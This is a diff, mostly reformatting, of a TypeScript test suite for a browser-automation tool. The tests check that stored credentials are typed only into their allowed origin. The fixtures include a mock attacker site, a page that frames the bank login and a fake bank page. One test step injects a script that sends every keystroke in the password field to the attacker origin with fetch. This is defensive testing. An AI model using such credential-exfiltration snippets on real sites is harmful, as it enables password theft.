@@ -23,7 +23,9 @@ async function serve(route: (url: URL, body: string, site: Site) => string): Pro
     let body = '';
     for await (const chunk of req) body += String(chunk);
     const url = new URL(req.url ?? '/', site.origin);
-    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' }).end(route(url, body, site));
+    res
+      .writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' })
+      .end(route(url, body, site));
   });
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
   site.origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
@@ -52,8 +54,10 @@ const evilSite = (bank: Site) =>
       site.received.push(url.searchParams.get('v') ?? '');
       return '';
     }
-    if (url.pathname === '/frame') return `<!doctype html><title>Framed</title><iframe src="${bank.origin}/login" width="600" height="200"></iframe>`;
-    if (url.pathname === '/opener') return `<!doctype html><title>Opener</title><button id="open" onclick="window.open('${bank.origin}/login')">Sign in</button>`;
+    if (url.pathname === '/frame')
+      return `<!doctype html><title>Framed</title><iframe src="${bank.origin}/login" width="600" height="200"></iframe>`;
+    if (url.pathname === '/opener')
+      return `<!doctype html><title>Opener</title><button id="open" onclick="window.open('${bank.origin}/login')">Sign in</button>`;
     return `<!doctype html><title>Totally the bank</title>
       <input id="pw" autofocus><p id="out" data-x=""></p>
       <script>
@@ -97,10 +101,14 @@ async function run(steps: unknown[], site: Site, path: string): Promise<RunStatu
   const fd = new FormData();
   fd.append('workflow_id', ((await created.json()) as { id: string }).id);
   fd.append('variables', JSON.stringify({ site: site.origin }));
-  const started = RunWorkflowResponse.parse(await (await server.api('/api/run_workflow', { method: 'POST', body: fd })).json());
+  const started = RunWorkflowResponse.parse(
+    await (await server.api('/api/run_workflow', { method: 'POST', body: fd })).json(),
+  );
   expect(started.succeeded, started.message).toBe(true);
   for (;;) {
-    const status = RunStatusResponse.parse(await (await server.api(`/api/run_workflow_status?session_id=${started.session_id}`)).json());
+    const status = RunStatusResponse.parse(
+      await (await server.api(`/api/run_workflow_status?session_id=${started.session_id}`)).json(),
+    );
     if (status.completed) return status;
     await new Promise((r) => setTimeout(r, 150));
   }
@@ -124,14 +132,16 @@ describe('a credential kept to its origins', () => {
     expect(evil.received).toContain(`x-${value}-y`);
   });
 
-  it('kept to the bank, the same flow fails at the change step, and the attacker\'s page gets nothing', async () => {
+  it("kept to the bank, the same flow fails at the change step, and the attacker's page gets nothing", async () => {
     const name = uniq('bank_pw');
     const value = `pw-${randomUUID()}`;
     await store(name, value, [bank.origin]);
     const seenBefore = evil.received.length;
     const status = await run(readBack(name), evil, '/steal');
     expect(status.succeeded).toBe(false);
-    expect(status.message).toBe(`Step 2 (change #pw): the credential "${name}" may only be typed into ${bank.origin}; this page is ${evil.origin}`);
+    expect(status.message).toBe(
+      `Step 2 (change #pw): the credential "${name}" may only be typed into ${bank.origin}; this page is ${evil.origin}`,
+    );
     expect(status.results.map((r) => [r.action, r.result.ok])).toEqual([
       ['navigate', true],
       ['change', false],
@@ -152,7 +162,13 @@ describe('a credential kept to its origins', () => {
       [
         { type: 'change', selectors: [['#user']], value: 'ada' },
         { type: 'change', selectors: [['#pw']], value: `{{credentials.${name}}}` },
-        { type: 'click', selectors: [['#go']], offsetX: 3, offsetY: 3, assertedEvents: [{ type: 'navigation', title: 'Signed in' }] },
+        {
+          type: 'click',
+          selectors: [['#go']],
+          offsetX: 3,
+          offsetY: 3,
+          assertedEvents: [{ type: 'navigation', title: 'Signed in' }],
+        },
         { type: 'waitForElement', selectors: [['#done']] },
       ],
       bank,
@@ -162,18 +178,22 @@ describe('a credential kept to its origins', () => {
     expect(bank.received).toContain(value);
   });
 
-  it('is not typed into its origin\'s page held in a frame of another origin, which could navigate it while it is typed', async () => {
+  it("is not typed into its origin's page held in a frame of another origin, which could navigate it while it is typed", async () => {
     const name = uniq('bank_pw');
     await store(name, `pw-${randomUUID()}`, [bank.origin]);
     const received = bank.received.length;
-    const status = await run([{ type: 'change', selectors: [['#pw']], frame: [0], value: `{{credentials.${name}}}` }], evil, '/frame');
+    const status = await run(
+      [{ type: 'change', selectors: [['#pw']], frame: [0], value: `{{credentials.${name}}}` }],
+      evil,
+      '/frame',
+    );
     expect(status.message).toBe(
       `Step 2 (change #pw): the credential "${name}" may only be typed into ${bank.origin}; this field is in a frame of ${bank.origin} inside ${evil.origin}, which can navigate it`,
     );
     expect(bank.received.length).toBe(received);
   });
 
-  it('is not typed into its origin\'s window opened by another origin, which keeps a hand on it', async () => {
+  it("is not typed into its origin's window opened by another origin, which keeps a hand on it", async () => {
     const name = uniq('bank_pw');
     await store(name, `pw-${randomUUID()}`, [bank.origin]);
     const received = bank.received.length;
@@ -191,13 +211,16 @@ describe('a credential kept to its origins', () => {
     expect(bank.received.length).toBe(received);
   });
 
-  it('a run that types one runs none of the flow\'s own script, even on its origin\'s page', async () => {
+  it("a run that types one runs none of the flow's own script, even on its origin's page", async () => {
     const name = uniq('bank_pw');
     await store(name, `pw-${randomUUID()}`, [bank.origin]);
     // The script would send the field's value anywhere once it is typed.
     const status = await run(
       [
-        { type: 'waitForExpression', expression: `(document.getElementById('pw').oninput = (e) => fetch('${evil.origin}/seen?v=' + e.target.value), true)` },
+        {
+          type: 'waitForExpression',
+          expression: `(document.getElementById('pw').oninput = (e) => fetch('${evil.origin}/seen?v=' + e.target.value), true)`,
+        },
         { type: 'change', selectors: [['#pw']], value: `{{credentials.${name}}}` },
       ],
       bank,
